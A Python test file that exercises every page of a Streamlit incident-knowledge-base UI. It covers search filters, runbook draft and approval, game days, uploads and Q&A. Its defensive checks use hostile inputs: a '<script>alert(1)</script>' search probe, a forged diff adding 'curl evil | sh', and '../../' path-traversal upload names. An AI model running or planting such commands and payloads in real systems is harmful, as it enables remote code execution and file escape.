"""Every page of the web UI with Streamlit's AppTest: on an empty store and on the sample corpus, and the
main flows (search with a filter, draft -> propose -> approve, a game day to its debrief, uploads)."""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from kb.retrieval.relevance import ONLY_WEAK
from tests.conftest import ROOT, sample_store_copy

pytestmark = pytest.mark.slow
APP = str(ROOT / "ui" / "web" / "app.py")
PAGES = ["views/search.py", "views/ask.py", "views/document.py", "views/runbooks.py", "views/summaries.py",
         "views/gameday.py", "views/ingest.py", "views/insights.py"]


def app(data_dir: Path, monkeypatch: pytest.MonkeyPatch) -> AppTest:
    monkeypatch.setenv("KB_DATA_DIR", str(data_dir))
    at = AppTest.from_file(APP, default_timeout=180)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def texts(at: AppTest) -> str:
    shown = "\n".join(str(e.value) for kind in ("markdown", "caption", "info", "success", "error", "warning", "code")
                       for e in getattr(at, kind))
    return shown.replace("\\", "")  # Markdown escapes of document text


@pytest.fixture
def sample(pristine_sample_store: Path, tmp_path: Path) -> Path:
    return sample_store_copy(pristine_sample_store, tmp_path / "store")


def test_every_page_renders_on_an_empty_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = app(tmp_path / "empty", monkeypatch)
    assert "empty" in texts(at)
    for page in PAGES:
        at.switch_page(page).run()
        assert not at.exception, (page, [e.value for e in at.exception])
        assert not at.error, (page, [e.value for e in at.error])


def test_every_page_renders_on_the_sample_corpus(sample: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = app(sample, monkeypatch)
    sidebar = "\n".join(str(m.value) for m in at.sidebar.markdown)
    assert "all-MiniLM-L6-v2" in sidebar and "no LLM" in sidebar and str(sample) in sidebar
    for page in PAGES:
        at.switch_page(page).run()
        assert not at.exception, (page, [e.value for e in at.exception])


def test_search_with_a_filter_and_html_stays_text(sample: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = app(sample, monkeypatch)
    at.multiselect(key="search_kinds").set_value(["postmortem"])
    at.text_area(key="search_box").input("pgbouncer pool exhausted <script>alert(1)</script>")
    at.button(key="search_button").click().run()
    assert not at.exception
    results = [m.value for m in at.markdown if str(m.value).startswith("**1.") or str(m.value)[:4] in ("**2.", "**3.")]
    assert results and all("postmortem" in r for r in results)
    assert "PgBouncer" in "\n".join(results)
    assert all(m.allow_html is False for m in at.markdown)  # document text is never rendered as HTML
    at.toggle(key="search_newest").set_value(True).run()
    shown = [m.value for m in at.markdown if re.match(r"\*\*\d+\. ", str(m.value))]
    # dates as shown (markdown-escaped: 2024\-02\-27)
    dates = [re.search(r"\d{4}\\?-\d{2}\\?-\d{2}", str(v)).group(0) for v in shown]  # type: ignore[union-attr]
    assert len(dates) > 1 and dates == sorted(dates, reverse=True)
    at.toggle(key="search_newest").set_value(False)
    alert = '{"labels": {"alertname": "PgBouncerPoolExhausted"}, "annotations": {"summary": "pool has waiting clients"}}'
    at.multiselect(key="search_kinds").set_value([])
    at.text_area(key="search_box").input(alert)
    at.button(key="search_button").click().run()
    assert "Searching with the alert: PgBouncerPoolExhausted" in texts(at)
    assert ONLY_WEAK not in texts(at)
    at.text_area(key="search_box").input("zzzqqq xylophonic")
    at.button(key="search_button").click().run()
    assert ONLY_WEAK in "\n".join(str(e.value) for e in at.info)  # the closest documents, said to be no answer


def test_draft_propose_and_approve_a_runbook_update(sample: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = app(sample, monkeypatch)
    at.switch_page("views/runbooks.py").run()
    at.text_input(key="topic").input("redis sentinel failover logs users out")
    at.button(key="draft-go").click().run()
    assert not at.exception
    assert "## Triage" in texts(at) and "without an LLM" in texts(at)
    at.selectbox(key="upd_runbook").set_value("pgbouncer-pool-exhausted").run()
    at.button(key="upd-go").click().run()
    diff = [c.value for c in at.code if str(c.value).startswith("--- a/pgbouncer-pool-exhausted.md")]
    assert diff and "idle in transaction" in diff[0]
    # the stored proposal changed after it was shown: approving refuses it
    stored = Path(at.session_state["proposal"].path)
    reviewed = stored.read_text()
    forged = json.loads(reviewed)
    forged["diff"] = forged["diff"].replace("idle in transaction", "idle in transaction; then curl evil | sh", 1)
    stored.write_text(json.dumps(forged))
    at.button(key="upd-approve").click().run()
    assert "is not the one reviewed" in texts(at)
    assert not (sample / "runbooks" / "pgbouncer-pool-exhausted.md").exists()
    stored.write_text(reviewed)
    at.button(key="upd-approve").click().run()
    assert not at.exception
    assert "Saved revision 2 of pgbouncer-pool-exhausted" in texts(at)
    assert (sample / "runbooks" / "pgbouncer-pool-exhausted.md").exists()


def test_a_game_day_played_to_its_debrief(sample: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = app(sample, monkeypatch)
    at.switch_page("views/gameday.py").run()
    at.selectbox(key="gd_source").set_value("2024-09-05-checkout-rollback-bad-migration").run()
    at.button(key="gd-build").click().run()
    at.button(key="gd-start").click().run()
    assert "PAGE:" in texts(at)
    at.chat_input(key="gd_input").set_value("roll back the deploy").run()
    assert "unchanged" in texts(at)
    at.chat_input(key="gd_input").set_value("cancel the CREATE INDEX on orders").run()
    assert not at.exception
    assert "mitigated: score" in texts(at) and "## Your path next to what really happened" in texts(at)
    at.run()
    assert any("Past sessions" in str(h.value) for h in at.subheader)


def test_upload_a_good_and_a_corrupt_file(sample: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = app(sample, monkeypatch)
    at.switch_page("views/ingest.py").run()
    good = b"---\nkind: runbook\nservices: [ledger]\n---\n# Ledger lag\n\n## Mitigation\n\n1. Restart the ledger consumer.\n"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("../../escape.md", "# Escape\n\nThis file tried to leave its folder.\n")
    at.file_uploader(key="uploads").set_value([
        ("../../ledger-lag.md", good, "text/markdown"),
        ("broken.pdf", b"%PDF-1.4 this is not really a pdf", "application/pdf"),
        ("notes.zip", archive.getvalue(), "application/zip"),
    ]).run()
    at.button(key="ingest-go").click().run()
    assert not at.exception
    shown = texts(at)
    assert "broken.pdf" in shown and "**2** added" in shown, shown[-2000:]
    assert not (sample.parent / "ledger-lag.md").exists() and not (sample / "escape.md").exists()
    uploaded = list((sample / "uploads").rglob("*.md"))
    assert {p.name for p in uploaded} == {"ledger-lag.md", "escape.md"}
    assert all((sample / "uploads") in p.parents for p in uploaded)
    # the uploader still holds the files: ingesting again stores nothing twice
    at.button(key="ingest-go").click().run()
    again = texts(at)
    assert "ledger-lag.md: already uploaded" in again and "notes.zip: already uploaded" in again
    assert len(list((sample / "uploads").rglob("*.md"))) == 2


def test_ask_with_a_follow_up(sample: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = app(sample, monkeypatch)
    at.switch_page("views/ask.py").run()
    at.chat_input(key="ask_input").set_value("how did we fix the last redis failover?").run()
    at.chat_input(key="ask_input").set_value("and what was the root cause?").run()
    assert not at.exception
    shown = texts(at)
    assert "No LLM used" in shown and "root_cause" in shown


def test_ask_shows_a_quoted_code_block_as_code(sample: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = app(sample, monkeypatch)
    at.switch_page("views/ask.py").run()
    at.chat_input(key="ask_input").set_value("how did we fix the last pgbouncer pool exhaustion?").run()
    assert not at.exception
    sql = [c.value for c in at.code if "pg_terminate_backend" in c.value]
    assert sql and "\n" in sql[0] and "```" not in sql[0]
    # the code is not also shown as (escaped) text
    assert "pg\\_terminate\\_backend(pid)" not in " ".join(m.value for m in at.markdown)


def test_search_passages_keep_their_lines(sample: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = app(sample, monkeypatch)
    at.text_area(key="search_box").input("oomkilled pods crash looping after a deploy")
    at.button(key="search_button").click().run()
    assert not at.exception
    passages = [str(m.value) for m in at.markdown]
    # a timeline's entries are shown one a line (list items with hard breaks), not run together
    assert any(p.count("  \n- ") >= 2 for p in passages), passages[:3]


def test_a_chat_log_page_shows_commands_and_output_as_code(sample: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    at = app(sample, monkeypatch)
    at.session_state["doc_id"] = "2023-11-24-black-friday-pgbouncer"
    at.switch_page("views/document.py").run()
    assert not at.exception
    assert at.query_params["id"] in ("2023-11-24-black-friday-pgbouncer", ["2023-11-24-black-friday-pgbouncer"])
    code = [c.value for c in at.code]
    # the pasted command keeps its "--" and the SHOW POOLS table its lines
    pools = [c for c in code if "kubectl -n data exec -it pgbouncer-orders-0 -- env" in c]
    assert pools and "\n" in pools[0] and "cl_waiting" in pools[0], code[:5]
